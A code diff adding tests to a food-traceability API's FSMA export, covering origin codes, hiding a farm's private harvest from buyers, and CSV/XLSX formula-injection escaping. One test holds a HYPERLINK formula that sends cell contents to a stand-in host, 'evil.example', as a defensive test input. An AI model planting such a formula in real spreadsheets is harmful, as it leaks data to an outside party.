@@ -5,6 +5,7 @@ traceability plan PDF; the destination market on the consumer page; ``agritrace 
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import subprocess
@@ -25,7 +26,15 @@ from traceability_api.config import Settings
 from traceability_api.consensus.gs1_uri import with_check_digit
 from traceability_api.demo import _org
 from traceability_api.demo_dongthap import G, seed_dong_thap
-from traceability_api.demo_fsma import FILLET, FILLET_LOT, FISH_LOT, MANGO_BOX_LOT, MANGO_LOT
+from traceability_api.demo_fsma import (
+    FILLET,
+    FILLET_LOT,
+    FISH_LOT,
+    MANGO_BOX_LOT,
+    MANGO_LOT,
+    PLANT_CODE,
+    POND_CODE,
+)
 from traceability_api.epcis.builder import object_event
 from traceability_api.epcis.identifiers import lot_uri
 from traceability_api.events.capture import DEFAULT_CONTEXT, capture_events
@@ -130,7 +139,9 @@ def test_demo_export_chains_have_every_required_kde(rt: Runtime, client: TestCli
             assert hasattr(r["event_date"], "year") and isinstance(r["quantity"], (int, float)), r  # typed, sortable
             assert all(str(v).isascii() for v in r.values() if v is not None), r  # romanised
         export = next(r for r in rows if r["cte"] == "shipping" and "Pacific Fresh" in r["subsequent_recipient"])
-        assert export["destination_market"] == ("US" if name == "mango" else None)  # checked by the code registry
+        assert export["destination_market"] == "US"  # checked by the code registry (aquaculture codes for the fish)
+        codes = ("VN-DTOR-0012", "VN-DTPH-0031") if name == "mango" else (POND_CODE, PLANT_CODE)
+        assert (export["origin_code"], export["house_code"]) == codes, export  # importing-market columns
         assert "Bill of lading" in export["reference_document_type"]
         assert "Phytosanitary certificate" in export["reference_document_type"] or name == "pangasius"
     mango = _sheet(client, authority, G["mango_box"], tlc_from="XCL-2506-00", tlc_to="XCL-2506-99")
@@ -201,13 +212,17 @@ def test_organisations_export_and_pull_only_what_they_may(rt: Runtime, client: T
     handed = body["shippedWithGoods"]
     assert handed["tlc"] == MANGO_BOX_LOT and handed["quantity"] == 2.8 and handed["unit"] == "TNE"
     assert "Pacific Fresh Imports" in handed["subsequent_recipient"] and handed["tlc_source_location"]
+    assert (handed["origin_code"], handed["house_code"]) == ("VN-DTOR-0012", "VN-DTPH-0031")
+    assert {r["origin_code"] for r in body["records"]} == {"VN-DTOR-0012"}
     assert body["proofBundle"]["lot"]["lotCode"] == MANGO_BOX_LOT and len(body["proofBundle"]["events"]) >= 10
     # firms that neither hold nor received a lot get nothing (as if it did not exist)
     for key, gtin, tlc in ((fish_farm, G["mango_box"], MANGO_BOX_LOT), (pack, FILLET, FILLET_LOT),
                            (coop, G["mango_box"], MANGO_BOX_LOT)):  # fmt: skip
         res = client.get(f"/api/v1/fsma/lots/{gtin}/{tlc}/upstream", headers=auth(key))
         assert res.status_code == 404, (key, tlc, res.text)
-    assert client.get(f"/api/v1/fsma/lots/{FILLET}/{FILLET_LOT}/upstream", headers=auth(importer)).status_code == 200
+    fillets = client.get(f"/api/v1/fsma/lots/{FILLET}/{FILLET_LOT}/upstream", headers=auth(importer))
+    assert fillets.status_code == 200
+    assert {(r["origin_code"], r["house_code"]) for r in fillets.json()["records"]} == {(POND_CODE, PLANT_CODE)}
     other_plan = client.get("/api/v1/fsma/plan.pdf", params={"org_id": coop_id or 1}, headers=auth(pack))
     assert other_plan.status_code == 403
 
@@ -287,3 +302,88 @@ def test_cli_export_fsma_writes_the_spreadsheet(rt: Runtime, tmp_path: Path) -> 
     assert "SDF-2510-01" in out.read_text("utf-8-sig") and "rows" in res.stdout
     bad = subprocess.run([*cmd[:-2], "--since", "yesterday"], env=env, capture_output=True, text=True, timeout=120)
     assert bad.returncode == 1 and "since" in bad.stderr and "Traceback" not in bad.stderr
+
+
+def test_private_harvest_stays_out_of_a_buyers_fsma_records(rt: Runtime, client: TestClient) -> None:
+    """A farm harvests privately (its variety a secret): the buyer's own spreadsheet and its upstream
+    pull neither show the private harvesting row nor copy the private event's variety or TLC source
+    reference into the rows the buyer may read; an authority still sees all of it."""
+    keys: dict[str, str] = {}
+    with Session(rt.engine) as s:
+        farm = _org(s, "HTX Vườn Kín", "cooperative", "Xã Mỹ Xương, Đồng Tháp", keys)
+        buyer = _org(s, "Vựa Xoài Chợ Lách", "distributor", "Chợ Cao Lãnh", keys)
+        _org(s, "Chi cục QLCL Đồng Tháp", "authority", "TP. Cao Lãnh", keys)
+        gtin = with_check_digit(f"893{9998:010d}")
+        create_product(s, farm[1], ProductCreate(gtin=gtin, name="Xoài cát", name_en="Cat mango",
+                                                 ftl_category="Tropical tree fruits"))  # fmt: skip
+        plot = create_place(s, farm[1], PlaceCreate(kind=PlaceKind.plot, name="Vườn kín"))
+        lot = lot_uri(gtin, "VK-01")
+        zone = rt.settings.zone
+
+        def cap(who: Any, event: dict[str, Any]) -> None:
+            capture_events(s, who[1], [event], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)
+
+        cap(farm, object_event(
+            "commissioning", zone, when="2025-07-01T06:00:00+07:00", action="ADD", lot=lot, quantity=500, uom="KGM",
+            bizLocation={"id": place_uri(plot)}, **{"agri:visibility": "private"},
+            ilmd={"agri:plot": place_uri(plot), "agri:variety": "VARIETY-SECRET-Q1",
+                  "agri:tlcSourceReference": "TLCREF-SECRET-Q2"}))  # fmt: skip
+        dest = [{"type": "owning_party", "destination": party_uri(buyer[0])}]
+        cap(farm, object_event("shipping", zone, when="2025-07-01T09:00:00+07:00", lot=lot, quantity=500, uom="KGM",
+                               destinationList=dest))  # fmt: skip
+        cap(buyer, object_event("receiving", zone, when="2025-07-01T11:00:00+07:00", lot=lot, destinationList=dest))
+        s.commit()
+    secrets = ("VARIETY-SECRET-Q1", "TLCREF-SECRET-Q2")
+    buyer_key = keys["Vựa Xoài Chợ Lách (distributor)"]
+    sheet_csv = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin}, headers=auth(buyer_key))
+    assert sheet_csv.status_code == 200 and "receiving" in sheet_csv.text
+    up = client.get(f"/api/v1/fsma/lots/{gtin}/VK-01/upstream", headers=auth(buyer_key))
+    assert up.status_code == 200, up.text
+    assert {r["cte"] for r in up.json()["records"]} == {"shipping", "receiving"}  # not the private harvest
+    for text in (sheet_csv.text, up.text, str(_sheet(client, buyer_key, gtin))):
+        for secret in secrets:
+            assert secret not in text
+    authority = client.get(
+        f"/api/v1/fsma/lots/{gtin}/VK-01/upstream", headers=auth(keys["Chi cục QLCL Đồng Tháp (authority)"])
+    )
+    assert {r["cte"] for r in authority.json()["records"]} == {"harvesting", "shipping", "receiving"}
+    assert all(secret in authority.text for secret in secrets)
+
+
+def test_plan_of_an_unknown_organisation_is_404(rt: Runtime, client: TestClient) -> None:
+    keys: dict[str, str] = {}
+    with Session(rt.engine) as s:
+        _org(s, "Chi cục QLCL Cần Thơ", "authority", "Ninh Kiều, Cần Thơ", keys)
+        s.commit()
+    res = client.get("/api/v1/fsma/plan.pdf", params={"org_id": 424242}, headers=auth(next(iter(keys.values()))))
+    assert res.status_code == 404 and "organisation 424242 not found" in res.text
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_spreadsheets(rt: Runtime, client: TestClient) -> None:
+    """Anybody capturing events writes free text (variety, document numbers) that reaches an FDA or
+    authority spreadsheet: a leading =, +, - or @ must not become a live formula (CSV injection)."""
+    keys: dict[str, str] = {}
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with Session(rt.engine) as s:
+        farm = _org(s, "HTX Công Thức", "cooperative", "Xã Tân Thuận, Đồng Tháp", keys)
+        gtin = with_check_digit(f"893{9997:010d}")
+        create_product(s, farm[1], ProductCreate(gtin=gtin, name="Xoài", name_en="Mango"))
+        plot = create_place(s, farm[1], PlaceCreate(kind=PlaceKind.plot, name="Vườn 1"))
+        capture_events(s, farm[1], [object_event(
+            "commissioning", rt.settings.zone, when="2025-07-01T06:00:00+07:00", action="ADD",
+            lot=lot_uri(gtin, "CT-01"), quantity=5, uom="KGM", bizLocation={"id": place_uri(plot)},
+            ilmd={"agri:plot": place_uri(plot), "agri:variety": evil},
+            bizTransactionList=[{"type": "inv", "bizTransaction": f"urn:agritrace:doc:{evil}"},
+                                {"type": "po", "bizTransaction": "urn:agritrace:doc:@SUM(1+1)"}],
+        )], DEFAULT_CONTEXT, rt.settings, checks=rt.capture_checks)  # fmt: skip
+        s.commit()
+    key = keys["HTX Công Thức (cooperative)"]
+    res = client.get("/api/v1/fsma/spreadsheet.xlsx", params={"gtin": gtin}, headers=auth(key))
+    ws = load_workbook(io.BytesIO(res.content)).active
+    assert ws is not None
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
+    text = client.get("/api/v1/fsma/spreadsheet.csv", params={"gtin": gtin}, headers=auth(key)).text
+    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    starts = [v for row in lines[1:] for v in row if v[:1] in ("=", "+", "-", "@")]
+    assert not starts, starts
